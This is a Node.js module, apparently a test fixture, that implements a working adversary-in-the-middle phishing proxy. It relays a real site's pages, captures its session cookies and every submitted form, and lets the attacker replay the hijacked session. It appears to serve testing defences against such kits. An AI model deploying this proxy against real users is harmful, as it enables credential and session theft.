import { once } from 'node:events'
import { createServer, request as call } from 'node:http'

/**
 * A phishing page of the kind that is sold as a kit: a reverse proxy on a host of its own that shows the true
 * pages of `host`, keeps the cookies it is given for itself, and rewrites addresses, so that whatever a victim
 * does there is done by the attacker at the true site.
 *
 * `origin` is where victims are lured to; `cookies` is what was stolen; `typed` holds every form that was sent
 * there; `get(path)` is the attacker using the loot.
 */
export async function startPhishing(region, host = 'id') {
  const truth = new URL(region.at(host))
  const cookies = new Map()
  const typed = []
  let origin

  const server = createServer(async (asked, answer) => {
    const chunks = []
    for await (const chunk of asked) chunks.push(chunk)
    const body = Buffer.concat(chunks)
    if (asked.method === 'POST') typed.push(new URLSearchParams(body.toString()))
    const told = await relay(asked.method, asked.url, asked.headers, body)
    const headers = { 'content-type': told.headers['content-type'] ?? 'text/plain' }
    if (told.headers.location) headers.location = told.headers.location.replaceAll(truth.origin, origin)
    answer.writeHead(told.status, headers)
    const isText = /html|json|javascript/.test(headers['content-type'])
    answer.end(isText ? told.body.toString().replaceAll(truth.host, new URL(origin).host) : told.body)
  })
  await once(server.listen(0, '127.0.0.1'), 'listening')
  origin = `http://sicher-anmelden.localhost:${server.address().port}`

  /** Asks the true site as if it were the victim's browser on the true page. */
  async function relay(method, path, headers = {}, body = Buffer.alloc(0)) {
    const sent = {
      host: truth.host,
      'user-agent': headers['user-agent'] ?? 'Mozilla/5.0',
      'accept-language': 'de',
      cookie: [...cookies].map(([name, value]) => `${name}=${value}`).join('; '),
    }
    if (method === 'POST') Object.assign(sent, { origin: truth.origin, 'sec-fetch-site': 'same-origin', 'content-type': headers['content-type'] })
    const asking = call({ host: '127.0.0.1', port: truth.port, method, path, headers: sent })
    asking.end(body)
    const [told] = await once(asking, 'response')
    for (const line of told.headers['set-cookie'] ?? []) {
      const [, name, value] = /^([^=]+)=([^;]*)/.exec(line)
      cookies.set(name, value)
    }
    const chunks = []
    for await (const chunk of told) chunks.push(chunk)
    return { status: told.statusCode, headers: told.headers, body: Buffer.concat(chunks) }
  }

  return {
    origin,
    cookies,
    typed,
    /** The attacker at the true site, with everything stolen so far. */
    get: async (path) => {
      const { status, headers, body } = await relay('GET', path)
      return { status, location: headers.location, text: body.toString() }
    },
    stop: () => new Promise((done) => { server.close(done); server.closeAllConnections() }),
  }
}
